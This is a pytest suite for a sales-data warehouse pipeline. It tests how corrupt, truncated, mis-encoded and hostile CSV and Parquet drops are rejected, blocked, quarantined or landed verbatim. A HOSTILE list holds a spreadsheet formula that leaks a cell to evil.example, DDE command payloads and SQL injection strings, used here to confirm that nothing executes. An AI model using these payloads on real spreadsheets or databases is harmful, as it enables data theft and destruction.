"""The bad-input corpus, file drops: every broken or hostile file gets a defined outcome.

Outcomes (docs/sources.md, "Bad inputs"):
- rejected: a `LandingError` naming the file, the row and the column; nothing of the file lands, the
  raw layer and the marts built before are exactly as they were;
- blocked: the file lands (raw keeps every row), its Great Expectations check fails and stops dbt in
  the same run: the marts stay byte-identical;
- quarantined: the file lands, exactly the bad rows are in `raw_quarantine.quarantined_rows` with a
  reason, and the batch goes on;
- accepted: the file lands with every row, values verbatim (formulas, SQL, emoji stay text).

Every case starts from one warehouse: the `tiny` demo (seed 7) landed and its marts built with dbt
(once per module). The GX cases already in `test_quality_corpus.py` (duplicate opportunity ids,
orphan account ids, negative deal amounts, unknown invoice currency, close before create, unknown
stage, future activity dates, ...) are not repeated: these are other tables, formats and routes.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import dagster as dg
import duckdb
import pytest
from fixtures.checksums import table_checksums

from orchestration.operations import latest_partition
from salesalign import contract, demo
from salesalign.extract import landing
from salesalign.extract.drops import drop_status
from salesalign.extract.landing import FileChangedError, LandingError, land_source
from salesalign.extract.sources import FileDropSource

TODAY = "CAST(current_date AS DATE)"
ACCOUNT_COLS = contract.table("accounts").column_names


# --------------------------------------------------------- shared fixtures and helpers


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> dict[str, Path]:
    """The tiny demo drop and a home with it landed and the dbt marts built (read-only: copy it)."""
    from fixtures.warehouse import land_drop, run_dbt

    root = tmp_path_factory.mktemp("reliability-files")
    drop = root / "drop"
    demo.generate("tiny", 7, drop)
    home = root / "home"
    home.mkdir()
    land_drop(home, drop)
    run_dbt(home, "build")
    return {"drop": drop, "home": home}


@pytest.fixture
def home(tiny, tmp_path) -> Path:
    """A private copy of the built warehouse."""
    out = tmp_path / "home"
    out.mkdir()
    shutil.copy(tiny["home"] / "warehouse.duckdb", out / "warehouse.duckdb")
    return out


def _connect(home: Path, read_only: bool = False) -> duckdb.DuckDBPyConnection:
    return duckdb.connect(str(home / "warehouse.duckdb"), read_only=read_only)


def snapshot(home: Path) -> dict[str, tuple[int, str]]:
    """(rows, checksum) of every raw contract table, the load log and every mart table."""
    raw = {f"raw.{t}" for t in contract.TABLE_NAMES} | {"raw._loads"}
    sums = table_checksums(home / "warehouse.duckdb", ("raw", "marts"))
    out = {k: v for k, v in sums.items() if k in raw or k.startswith("marts.")}
    assert raw <= set(out) and any(k.startswith("marts.") and v[0] > 0 for k, v in out.items())
    return out


def write_csv(tiny, path: Path, table: str = "accounts", select: str = "*", delim: str = ",") -> Path:
    """The tiny drop's `table` as a CSV (header, quoted where needed), optionally transformed."""
    path.parent.mkdir(parents=True, exist_ok=True)
    src = tiny["drop"] / f"{table}.parquet"
    with duckdb.connect() as con:
        con.execute(f"CREATE VIEW src AS SELECT * FROM read_parquet('{src}')")
        con.execute(f"COPY (SELECT {select} FROM src) TO {landing.quote(path)} (HEADER, DELIMITER '{delim}')")
    return path


def write_parquet(tiny, path: Path, table: str, select: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    src = tiny["drop"] / f"{table}.parquet"
    with duckdb.connect() as con:
        con.execute(f"CREATE VIEW src AS SELECT * FROM read_parquet('{src}')")
        con.execute(f"COPY ({select}) TO {landing.quote(path)} (FORMAT parquet)")
    return path


def land(home: Path, drop: Path, tables=None) -> list[landing.LoadResult]:
    with _connect(home) as con:
        return land_source(con, FileDropSource(drop, "files"), tables or contract.TABLE_NAMES)


def file_rows(path: Path) -> int:
    fmt = "read_parquet" if path.suffix == ".parquet" else "read_csv"
    with duckdb.connect() as con:
        return con.execute(f"SELECT count(*) FROM {fmt}('{path}')").fetchone()[0]


def _lines(path: Path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


# --------------------------------------------------------- rejected files


@dataclass(frozen=True)
class Rejected:
    name: str
    make: object  # (tiny, drop) -> Path of the broken file
    message: tuple[str, ...]  # regexes the error must match (besides the file path)


def _missing_column(tiny, drop):
    return write_csv(tiny, drop / "accounts.csv", select="* EXCLUDE (country)")


def _renamed_column(tiny, drop):
    return write_csv(tiny, drop / "accounts.csv", select="* RENAME (account_id AS AccountId)")


def _wrong_type_date(tiny, drop):
    return write_csv(
        tiny,
        drop / "accounts.csv",
        select="* REPLACE (CASE WHEN row_number() OVER () = 3 THEN '31/12/2024' "
        "ELSE CAST(created_at AS VARCHAR) END AS created_at)",
    )


def _wrong_type_parquet(tiny, drop):
    return write_parquet(
        tiny,
        drop / "opportunities.parquet",
        "opportunities",
        "SELECT * REPLACE (CASE WHEN opportunity_id = (SELECT min(opportunity_id) FROM src) "
        "THEN '1.234,50' ELSE CAST(amount AS VARCHAR) END AS amount) FROM src ORDER BY opportunity_id",
    )


def _empty_file(tiny, drop):
    drop.mkdir(parents=True, exist_ok=True)
    (drop / "accounts.csv").write_bytes(b"")
    return drop / "accounts.csv"


def _truncated_last_line(tiny, drop):
    path = write_csv(tiny, drop / "accounts.csv")
    data = path.read_bytes()
    cut = data.rstrip(b"\n").rfind(b",", 0, len(data) - 40)  # the copy stopped inside the last row
    path.write_bytes(data[:cut])
    return path


def _truncated_in_quote(tiny, drop):
    path = write_csv(
        tiny, drop / "accounts.csv", select="* REPLACE ('Acme, ' || account_name AS account_name)"
    )
    data = path.read_bytes()
    last = data.rstrip(b"\n").rfind(b"\n")
    path.write_bytes(data[: data.index(b'"', last) + 8])  # stops 7 bytes into a quoted name
    return path


def _truncated_parquet(tiny, drop):
    path = write_parquet(tiny, drop / "opportunities.parquet", "opportunities", "SELECT * FROM src")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def _not_utf8(tiny, drop):
    path = write_csv(tiny, drop / "accounts.csv")
    lines = _lines(path)
    lines[5] = lines[5].replace(b",", "é,".encode("latin-1"), 1)  # row 5: a Latin-1 é in the id
    path.write_bytes(b"".join(lines))
    return path


def _rows_with_other_delimiter(tiny, drop):
    path = write_csv(tiny, drop / "accounts.csv")
    lines = _lines(path)
    path.write_bytes(lines[0] + b"".join(line.replace(b",", b";") for line in lines[1:]))
    return path


def _decimal_comma(tiny, drop):
    return write_csv(
        tiny,
        drop / "accounts.csv",
        select="* REPLACE (replace(CAST(annual_revenue AS VARCHAR), '.', ',') AS annual_revenue)",
        delim=";",
    )


def _absurd_amount(tiny, drop):
    return write_csv(
        tiny,
        drop / "accounts.csv",
        select="* REPLACE (CASE WHEN row_number() OVER () = 7 THEN '1e20' "
        "ELSE CAST(annual_revenue AS VARCHAR) END AS annual_revenue)",
    )


def _duplicate_header(tiny, drop):
    path = write_csv(tiny, drop / "accounts.csv")
    lines = _lines(path)
    lines[0] = lines[0].replace(b"industry", b"account_name")
    path.write_bytes(b"".join(lines))
    return path


def _unquoted_delimiter(tiny, drop):
    path = write_csv(tiny, drop / "accounts.csv")
    lines = _lines(path)
    lines[4] = lines[4].replace(b",", b",Acme, Inc,", 1)  # row 4: an unquoted comma in a name
    path.write_bytes(b"".join(lines))
    return path


REJECTED = [
    Rejected("missing_column", _missing_column, (r"missing column\(s\) country",)),
    Rejected(
        "renamed_column",
        _renamed_column,
        (r"missing column\(s\) account_id", r"not in the contract: AccountId \(renamed\?\)"),
    ),
    Rejected(
        "wrong_type_date",
        _wrong_type_date,
        (r"row 3 \(header is row 0\): created_at=31/12/2024 does not fit TIMESTAMP",),
    ),
    Rejected(
        "wrong_type_parquet",
        _wrong_type_parquet,
        (r"row 1 \(header is row 0\): amount=1.234,50 does not fit DECIMAL",),
    ),
    Rejected("empty_file", _empty_file, (r"the file is empty",)),
    Rejected(
        "truncated_last_line",
        _truncated_last_line,
        (r"row 100 \(header is row 0\), column \w+: the row has \d of the header's 10 fields", r"truncated"),
    ),
    Rejected(
        "truncated_inside_a_quoted_value",
        _truncated_in_quote,
        (r"row 100 \(header is row 0\), column account_name: a quoted value is never closed",),
    ),
    Rejected("truncated_parquet", _truncated_parquet, (r"cannot be read as parquet",)),
    Rejected("not_utf8", _not_utf8, (r"row 5 \(header is row 0\): the row is not UTF-8", r"csv.encoding")),
    Rejected(
        "rows_delimited_unlike_the_header",
        _rows_with_other_delimiter,
        (
            r"row 1 \(header is row 0\): the row has 1 of the header.s 10 fields: "
            r"the rows are delimited by .;., the header by .,.",
        ),
    ),
    Rejected(
        "decimal_comma_in_a_semicolon_file",
        _decimal_comma,
        (r"row 1 \(header is row 0\): annual_revenue=[\d]+,\d+ does not fit DECIMAL\(18,2\)",),
    ),
    Rejected(
        "amount_beyond_decimal_18_2",
        _absurd_amount,
        (r"row 7 \(header is row 0\): annual_revenue=1e20 does not fit",),
    ),
    Rejected(
        "duplicate_header_column",
        _duplicate_header,
        (r"row 0 \(the header\) names column\(s\) account_name more than once",),
    ),
    Rejected(
        "unquoted_delimiter_in_a_value",
        _unquoted_delimiter,
        (r"row 4 \(header is row 0\): the row has 11 fields, the header 10",),
    ),
]


@pytest.mark.parametrize("case", REJECTED, ids=[c.name for c in REJECTED])
def test_rejected_file_names_file_row_column_and_lands_nothing(case, tiny, home, tmp_path):
    path = case.make(tiny, tmp_path / "drop")
    before = snapshot(home)
    with pytest.raises(LandingError) as err:
        land(home, path.parent)
    message = str(err.value)
    assert str(path) in message
    for pattern in case.message:
        assert re.search(pattern, message), (pattern, message)
    assert len(message) < 1500, "errors quote at most a short excerpt of the file"
    assert snapshot(home) == before, "nothing of a rejected file lands; raw and marts are untouched"


# --------------------------------------------------------- accepted files


def _raw(home: Path, sql: str, params=None) -> list[tuple]:
    with _connect(home, read_only=True) as con:
        return con.execute(sql, params or []).fetchall()


def _later_accounts(tiny, drop: Path, select: str, name="accounts.csv", delim=",") -> Path:
    """A later drop of accounts (new ids, so the landing is the only thing under test)."""
    return write_csv(
        tiny, drop / name, select=f"* REPLACE ('N-' || account_id AS account_id) {select}", delim=delim
    )


def test_extra_column_is_ignored_with_a_warning_and_every_row_lands(tiny, home, tmp_path):
    path = write_csv(tiny, tmp_path / "drop" / "accounts.csv", select="*, 'blue' AS favourite_colour")
    [result] = land(home, path.parent)
    assert result.extra_columns == ("favourite_colour",)
    assert result.rows == file_rows(path) == 100


@pytest.mark.parametrize("variant", ["bom", "semicolon", "tab", "crlf"])
def test_bom_other_delimiters_and_windows_line_ends_land_exactly(variant, tiny, home, tmp_path):
    drop = tmp_path / "drop"
    delim = {"semicolon": ";", "tab": "\t"}.get(variant, ",")
    path = write_csv(tiny, drop / "accounts.csv", delim=delim)
    if variant == "bom":
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    if variant == "crlf":
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    before = snapshot(home)["raw.accounts"][0]
    [result] = land(home, drop)
    assert result.rows == 100 and not result.extra_columns
    cols = ", ".join(ACCOUNT_COLS)
    diff = _raw(
        home,
        f"SELECT count(*) FROM (SELECT {cols} FROM raw.accounts WHERE _load_id = ? "
        f"EXCEPT ALL SELECT {cols} FROM read_parquet('{tiny['drop'] / 'accounts.parquet'}'))",
        [result.load_id],
    )
    assert diff == [(0,)], "every value lands exactly as in the source"
    assert snapshot(home)["raw.accounts"][0] == before + 100


def test_header_only_file_lands_zero_rows_once_and_its_check_blocks(tiny, home, tmp_path):
    from salesalign.quality.validate import validate_raw_batch

    path = write_csv(tiny, tmp_path / "drop" / "accounts.csv")
    path.write_bytes(_lines(path)[0])
    [result] = land(home, path.parent)
    assert result.rows == 0 and not result.skipped
    assert land(home, path.parent)[0].skipped, "an empty delivery is recorded: not landed again"
    with _connect(home) as con:
        report = validate_raw_batch(con, "accounts", [result.load_id], home)
    assert not report.passed
    assert "expect_column_values_to_be_between(row_count)" in {o.name for o in report.by_outcome("blocking")}


HOSTILE = [
    "=HYPERLINK(\"http://evil.example/x?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'); DROP TABLE raw.accounts; --",
    "Robert'); DELETE FROM raw._loads WHERE ('1'='1",
    "O'Brien & Söhne \"Ltd\"",
]
WORLD = [
    "株式会社テスト",
    "Škoda Müller Ærø",
    "شركة الاختبار",
    "Тест ООО",
    "🦄 Unicorn 👩‍💻 Labs",
    "e\u0301cole",
]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_formula_sql_and_non_latin_text_lands_verbatim_and_executes_nothing(fmt, tiny, home, tmp_path):
    drop = tmp_path / "O'Brien's drop; DROP TABLE x"  # a quote in the path, too
    names = HOSTILE + WORLD
    values = ", ".join("(" + str(i + 1) + ", '" + n.replace("'", "''") + "')" for i, n in enumerate(names))
    select = (
        f"SELECT src.* REPLACE ('H-' || CAST(v.i AS VARCHAR) AS account_id, v.name AS account_name, "
        f"v.name AS industry) FROM (SELECT * FROM src LIMIT 1) src, (VALUES {values}) v(i, name)"
    )
    path = drop / f"accounts.{fmt}"
    drop.mkdir()
    if fmt == "csv":
        write_parquet(tiny, tmp_path / "tmp.parquet", "accounts", select)
        with duckdb.connect() as con:
            con.execute(
                f"COPY (SELECT * FROM read_parquet('{tmp_path / 'tmp.parquet'}')) "
                f"TO {landing.quote(path)} (HEADER)"
            )
    else:
        write_parquet(tiny, path, "accounts", select)
    before = snapshot(home)
    [result] = land(home, drop)
    assert result.rows == len(names)
    landed = _raw(
        home,
        "SELECT account_name, industry, _source_file FROM raw.accounts "
        "WHERE _load_id = ? ORDER BY _source_row",
        [result.load_id],
    )
    assert [r[0] for r in landed] == names and [r[1] for r in landed] == names  # verbatim, code points too
    assert {r[2] for r in landed} == {str(path)}
    after = snapshot(home)
    assert after["raw.accounts"][0] == before["raw.accounts"][0] + len(names)
    assert after["raw._loads"][0] == before["raw._loads"][0] + 1  # nothing deleted, nothing dropped
    assert {k: v for k, v in after.items() if k not in ("raw.accounts", "raw._loads")} == {
        k: v for k, v in before.items() if k not in ("raw.accounts", "raw._loads")
    }


def test_very_long_strings_land_whole(tiny, home, tmp_path):
    long_name = "Ω" * 1_500_000 + "end"  # 3 MB of UTF-8 in one CSV field: beyond DuckDB's default line size
    path = _later_accounts(tiny, tmp_path / "drop", "")
    lines = _lines(path)
    head = lines[1].split(b",")
    head[1] = long_name.encode()
    lines[1] = b",".join(head)
    path.write_bytes(b"".join(lines))
    [result] = land(home, path.parent)
    assert result.rows == 100
    [(length, tail)] = _raw(
        home,
        "SELECT length(account_name), right(account_name, 3) FROM raw.accounts "
        "WHERE _load_id = ? AND _source_row = 1",
        [result.load_id],
    )
    assert (length, tail) == (len(long_name), "end")


def test_same_file_landed_twice_or_under_another_name_adds_nothing(tiny, home, tmp_path):
    drop = tmp_path / "drop"
    path = _later_accounts(tiny, drop, "")
    [first] = land(home, drop)
    assert first.rows == 100
    before = snapshot(home)
    os.utime(path)  # touched, same bytes
    again = tmp_path / "again" / "accounts"
    again.mkdir(parents=True)
    shutil.copy(path, again / "2025-06-01.csv")  # the same bytes re-delivered in another drop
    assert [r.skipped for r in land(home, drop)] == [True]
    assert [r.skipped for r in land(home, again.parent)] == [True]
    assert snapshot(home) == before


def test_temporary_and_partial_file_names_are_never_landed(tiny, home, tmp_path):
    drop = tmp_path / "drop"
    src = _later_accounts(tiny, tmp_path / "src", "")
    (drop / "activities").mkdir(parents=True)
    for name in (
        "accounts.csv.part",
        ".accounts.csv.swp",
        "~$accounts.csv",
        "accounts.tmp.csv",
        "accounts.csv.crdownload",
        ".accounts.csv.Xy12ab",  # rsync's temporary name
        "activities/.2025-06-01.parquet",
        "activities/2025-06-01.parquet.tmp",
    ):
        shutil.copy(src, drop / name)
    source = FileDropSource(drop, "files")
    assert source.batches("accounts") == [] and source.batches("activities") == []
    assert source.prepare()["unknown_files"] == ["accounts.tmp.csv"]  # reported, not landed
    before = snapshot(home)
    assert land(home, drop) == []
    assert snapshot(home) == before
    # when the copy completes under its real name, it lands whole
    (drop / "accounts.csv.part").rename(drop / "accounts.csv")
    assert [r.rows for r in land(home, drop)] == [100]


def test_file_still_being_written_is_rolled_back_then_lands_whole(tiny, home, tmp_path, monkeypatch):
    drop = tmp_path / "drop"
    path = _later_accounts(tiny, drop, "")
    complete = path.read_bytes()
    lines = _lines(path)
    path.write_bytes(b"".join(lines[:51]))  # 50 rows copied so far
    real_sha = landing.file_sha256

    def copy_goes_on(p: Path) -> str:  # the sender appends while the landing reads
        digest = real_sha(p)
        p.write_bytes(complete)
        return digest

    monkeypatch.setattr(landing, "file_sha256", copy_goes_on)
    before = snapshot(home)
    with pytest.raises(
        FileChangedError, match=r"changed while it was being landed .*nothing of it was landed"
    ):
        land(home, drop)
    assert snapshot(home) == before
    monkeypatch.setattr(landing, "file_sha256", real_sha)
    [result] = land(home, drop)
    assert result.rows == 100 == file_rows(path)


def test_drop_sensor_waits_for_a_complete_drop(tiny, tmp_path):
    drop = tmp_path / "incoming" / "2025-06-01"
    path = _later_accounts(tiny, drop, "")
    data = path.read_bytes()
    (drop / "manifest.json").write_text(
        f'{{"files": {{"accounts.csv": {{"bytes": {len(data)}, '
        f'"sha256": "{hashlib.sha256(data).hexdigest()}"}}}}}}'
    )
    path.write_bytes(data[: len(data) // 2])
    complete, why = drop_status(drop)
    assert not complete and why == f"accounts.csv has {len(data) // 2} of {len(data)} bytes"
    path.write_bytes(data)
    assert drop_status(drop) == (True, "manifest.json verified (1 files)")


# --------------------------------------------------------- blocked and quarantined by the quality gate


def _materialize_with_dbt(home: Path, drop: Path, table: str, monkeypatch) -> dg.ExecuteInProcessResult:
    """Land `table` from the drop, run its GX check, and dbt (which must not run if the check blocks)."""
    from orchestration.extract import landing_assets, raw_asset_key
    from orchestration.quality import raw_checks
    from orchestration.resources import SourceResource, WarehouseResource
    from orchestration.transform import dbt_models, dbt_resource

    monkeypatch.setenv("SALESALIGN_HOME", str(home))
    return dg.materialize(
        [*landing_assets, *raw_checks, dbt_models],
        selection=dg.AssetSelection.assets(raw_asset_key(table)) | dg.AssetSelection.assets(*dbt_models.keys),
        resources={
            "source": SourceResource(kind="files", path=str(drop)),
            "warehouse": WarehouseResource(home=str(home)),
            "dbt": dbt_resource(),
        },
        partition_key=latest_partition(),
        raise_on_error=False,
    )


@dataclass(frozen=True)
class Gx:
    name: str
    table: str
    fmt: str
    select: str  # over `src` (the tiny drop's table), the delivered file
    expectation: str
    bad: int  # rows the expectation must name


GX_BLOCKED = [
    Gx(
        "identical_duplicate_ids",
        "accounts",
        "csv",
        "SELECT * FROM src UNION ALL (SELECT * FROM src ORDER BY account_id LIMIT 2)",
        "expect_column_values_to_be_between(_key_occurrences_in_batch)",
        4,
    ),
    Gx(
        "conflicting_duplicate_ids",
        "invoices",
        "parquet",
        "SELECT * FROM src UNION ALL "
        "(SELECT * REPLACE (amount + 1 AS amount) FROM src ORDER BY invoice_id LIMIT 3)",
        "expect_column_values_to_be_between(_key_occurrences_in_batch)",
        6,
    ),
    Gx(
        "null_keys",
        "accounts",
        "csv",
        "SELECT * REPLACE (CASE WHEN account_id IN (SELECT account_id FROM src ORDER BY 1 LIMIT 2) THEN NULL "
        "ELSE account_id END AS account_id) FROM src",
        "expect_column_values_to_not_be_null(account_id)",
        2,
    ),
    Gx(
        "unknown_currency",
        "accounts",
        "csv",
        "SELECT * REPLACE (CASE WHEN account_id IN (SELECT account_id FROM src ORDER BY 1 LIMIT 3) "
        "THEN 'BTC' ELSE currency END AS currency) FROM src",
        "expect_column_values_to_be_in_set(_currency_has_fx_rate)",
        3,
    ),
    Gx(
        "future_invoice_dates",
        "invoices",
        "parquet",
        f"SELECT * REPLACE (CASE WHEN invoice_id IN (SELECT invoice_id FROM src ORDER BY 1 LIMIT 2) "
        f"THEN {TODAY} + 60 ELSE invoice_date END AS invoice_date) FROM src",
        "expect_column_values_to_be_between(_hours_after_load__invoice_date)",
        2,
    ),
]


def _deliver(tiny, tmp_path: Path, case: Gx) -> Path:
    drop = tmp_path / "drop"
    path = drop / f"{case.table}.{case.fmt}"
    drop.mkdir()
    if case.fmt == "csv":
        write_parquet(tiny, tmp_path / "tmp.parquet", case.table, case.select)
        with duckdb.connect() as con:
            con.execute(
                f"COPY (SELECT * FROM read_parquet('{tmp_path / 'tmp.parquet'}')) "
                f"TO {landing.quote(path)} (HEADER)"
            )
    else:
        write_parquet(tiny, path, case.table, case.select)
    return path


def _clear(home: Path, table: str) -> None:
    """The delivered file replaces the table's first delivery, so the batch is the whole table."""
    with _connect(home) as con:
        con.execute(f"DELETE FROM raw.{table}")
        con.execute("DELETE FROM raw._loads WHERE table_name = ?", [table])


@pytest.mark.parametrize("case", GX_BLOCKED, ids=[c.name for c in GX_BLOCKED])
def test_blocked_batch_keeps_every_raw_row_and_leaves_marts_identical(
    case, tiny, home, tmp_path, monkeypatch
):
    from orchestration.extract import raw_asset_key

    path = _deliver(tiny, tmp_path, case)
    _clear(home, case.table)
    before = snapshot(home)
    result = _materialize_with_dbt(home, path.parent, case.table, monkeypatch)
    assert not result.success
    [check] = [e for e in result.get_asset_check_evaluations() if e.asset_key == raw_asset_key(case.table)]
    assert not check.passed
    failed = {f["expectation"]: f for f in check.metadata["failed_expectations"].value}
    assert failed[case.expectation]["outcome"] == "blocking", failed.keys()
    assert failed[case.expectation]["unexpected_count"] == case.bad
    assert failed[case.expectation]["reason"] in check.description
    materialized = {e.asset_key for e in result.get_asset_materialization_events()}
    assert materialized == {raw_asset_key(case.table)}, "dbt must not run after a blocking failure"
    after = snapshot(home)
    assert after[f"raw.{case.table}"][0] == file_rows(path), "every delivered row is kept in raw"
    assert {k: v for k, v in after.items() if k.startswith("marts.")} == {
        k: v for k, v in before.items() if k.startswith("marts.")
    }, "published marts stay byte-identical"


GX_QUARANTINED = [
    Gx(
        "orphan_rep_ids_on_activities",
        "activities",
        "parquet",
        "SELECT * REPLACE (CASE WHEN activity_id IN (SELECT activity_id FROM src ORDER BY 1 LIMIT 4) "
        "THEN 'REP-GONE' ELSE rep_id END AS rep_id) FROM src",
        "expect_column_values_to_be_in_set(_rep_id_exists)",
        4,
    ),
    Gx(
        "negative_invoice_amounts",
        "invoices",
        "csv",
        "SELECT * REPLACE (CASE WHEN invoice_id IN (SELECT invoice_id FROM src ORDER BY 1 LIMIT 3) "
        "THEN -amount ELSE amount END AS amount) FROM src",
        "expect_column_values_to_be_between(amount)",
        3,
    ),
    Gx(
        "negative_account_revenue",
        "accounts",
        "csv",
        "SELECT * REPLACE (CASE WHEN account_id IN (SELECT account_id FROM src ORDER BY 1 LIMIT 2) "
        "THEN -annual_revenue ELSE annual_revenue END AS annual_revenue) FROM src",
        "expect_column_values_to_be_between(annual_revenue)",
        2,
    ),
]


@pytest.mark.parametrize("case", GX_QUARANTINED, ids=[c.name for c in GX_QUARANTINED])
def test_quarantine_sets_aside_exactly_the_bad_rows(case, tiny, home, tmp_path):
    from salesalign.quality.quarantine import TABLE as QUARANTINE
    from salesalign.quality.validate import validate_raw_batch

    path = _deliver(tiny, tmp_path, case)
    _clear(home, case.table)
    [result] = land(home, path.parent, [case.table])
    with _connect(home) as con:
        report = validate_raw_batch(con, case.table, [result.load_id], home)
    assert report.passed, report.summary()
    [outcome] = [o for o in report.failures if o.name == case.expectation]
    assert outcome.outcome == "quarantined" and outcome.quarantined == case.bad
    key = contract.table(case.table).primary_key[0]
    with duckdb.connect() as con:
        col = case.select.split("CASE WHEN ")[1].split(" IN ")[0]
        expected = {
            r[0]
            for r in con.execute(
                f"SELECT {key} FROM read_parquet('{tiny['drop'] / (case.table + '.parquet')}') "
                f"ORDER BY {col} LIMIT {case.bad}"
            ).fetchall()
        }
    rows = _raw(
        home,
        f"SELECT q.key_value, r.{key}, q.reason FROM {QUARANTINE} q JOIN raw.{case.table} r "
        f"ON r._load_id = q.load_id AND r._source_row = q.source_row "
        f"WHERE q.table_name = ? AND q.expectation = ?",
        [case.table, case.expectation],
    )
    assert {r[0] for r in rows} == {r[1] for r in rows} == expected
    assert all(r[2] == outcome.reason and r[2] for r in rows)
    assert result.rows == file_rows(path) == _raw(home, f"SELECT count(*) FROM raw.{case.table}")[0][0]


@pytest.mark.parametrize(
    ("name", "table", "select", "expectation"),
    [
        (
            "invoice_amounts_in_cents",
            "invoices",
            "SELECT * REPLACE (amount * 100 AS amount) FROM src",
            "expect_column_values_to_be_between(invoiced_to_booked)",
        ),
        (
            "absurd_deal_amount",
            "opportunities",
            "SELECT * REPLACE (CASE WHEN opportunity_id = (SELECT min(opportunity_id) FROM src) "
            "THEN 9999999999999.99 ELSE amount END AS amount) FROM src",
            "expect_column_values_to_be_between(_amount_minus_discounted_list)",
        ),
    ],
)
def test_implausible_amounts_land_with_a_named_warning(
    name, table, select, expectation, tiny, home, tmp_path
):
    """Amounts that fit the type but not the business (cents, 10^13) are flagged, not blocked (yet)."""
    from salesalign.quality.validate import validate_raw_batch

    path = write_parquet(tiny, tmp_path / "drop" / f"{table}.parquet", table, select)
    _clear(home, table)
    [result] = land(home, path.parent, [table])
    with _connect(home) as con:
        report = validate_raw_batch(con, table, [result.load_id], home)
    warnings = {o.name: o for o in report.by_outcome("warning")}
    assert expectation in warnings, report.summary()
    assert report.passed and result.rows == file_rows(path)


# --------------------------------------------------------- handled downstream: order, lateness, deletions


@pytest.fixture(scope="module")
def later_drop_built(tiny, tmp_path_factory) -> dict:
    """A second drop on top of the built tiny warehouse, then an incremental dbt build:
    an older version of a deal arriving after its newer one (out of order), an invoice for a deal
    closed long ago (late), and an accounts snapshot without one account (deleted in the CRM)."""
    from fixtures.warehouse import run_dbt

    root = tmp_path_factory.mktemp("reliability-later")
    home = root / "home"
    home.mkdir()
    shutil.copy(tiny["home"] / "warehouse.duckdb", home / "warehouse.duckdb")
    src = tiny["drop"]
    query = (
        "SELECT opportunity_id, account_id, deal_amount, invoiced_revenue FROM marts.fct_deal_margin "
        "WHERE is_won AND deal_currency = 'USD' AND reporting_currency = 'USD' "
        "ORDER BY close_date, opportunity_id LIMIT 2"
    )
    stale, late = _raw(home, query)
    drop = root / "later"
    drop.mkdir()
    with duckdb.connect() as con:
        # an older version of `stale` (an hour before the landed one) with three times the amount
        con.execute(
            f"COPY (SELECT * REPLACE (amount * 3 AS amount, list_amount * 3 AS list_amount, "
            f"updated_at - INTERVAL 1 HOUR AS updated_at) "
            f"FROM read_parquet('{src / 'opportunities.parquet'}') "
            f"WHERE opportunity_id = '{stale[0]}') TO '{drop / 'opportunities.parquet'}' (FORMAT parquet)"
        )
        con.execute(
            f"COPY (SELECT 'INV-LATE-1' AS invoice_id, '{late[0]}' AS opportunity_id, "
            f"'{late[1]}' AS account_id, "
            f"{TODAY} - 1 AS invoice_date, CAST(1234.56 AS DECIMAL(18,2)) AS amount, 'USD' AS currency) "
            f"TO '{drop / 'invoices.parquet'}' (FORMAT parquet)"
        )
        gone = con.execute(
            f"SELECT min(account_id) FROM read_parquet('{src / 'accounts.parquet'}')"
        ).fetchone()[0]
        con.execute(
            f"COPY (SELECT * FROM read_parquet('{src / 'accounts.parquet'}') WHERE account_id <> '{gone}') "
            f"TO '{drop / 'accounts.parquet'}' (FORMAT parquet)"
        )
    results = land(home, drop)
    run_dbt(home, "build")
    return {
        "home": home,
        "stale": stale,
        "late": late,
        "gone": gone,
        "results": {r.table: r for r in results},
    }


def test_out_of_order_update_keeps_the_latest_version(later_drop_built):
    home, (opp, _, deal_amount, _) = later_drop_built["home"], later_drop_built["stale"]
    assert later_drop_built["results"]["opportunities"].rows == 1
    assert _raw(home, "SELECT count(*) FROM raw.opportunities WHERE opportunity_id = ?", [opp]) == [(2,)]
    after = _raw(home, "SELECT deal_amount FROM marts.fct_deal_margin WHERE opportunity_id = ?", [opp])
    assert after == [(deal_amount,)], "an older version landed later must not win"


def test_late_arriving_invoice_reaches_the_deal_margin(later_drop_built):
    home, (opp, _, _, invoiced_before) = later_drop_built["home"], later_drop_built["late"]
    assert later_drop_built["results"]["invoices"].rows == 1
    after = _raw(home, "SELECT invoiced_revenue FROM marts.fct_deal_margin WHERE opportunity_id = ?", [opp])
    assert after == [((invoiced_before or 0) + Decimal("1234.56"),)]


def test_record_deleted_in_the_crm_keeps_its_last_version(later_drop_built):
    """Deletions are not propagated (documented): a record missing from a later snapshot keeps its
    last landed version in raw and in the marts; nothing is lost."""
    home, gone = later_drop_built["home"], later_drop_built["gone"]
    assert later_drop_built["results"]["accounts"].rows == 99
    assert _raw(home, "SELECT count(*) FROM raw.accounts WHERE account_id = ?", [gone]) == [(1,)]
    assert _raw(home, "SELECT count(*) FROM marts.dim_accounts WHERE account_id = ?", [gone]) == [(1,)]
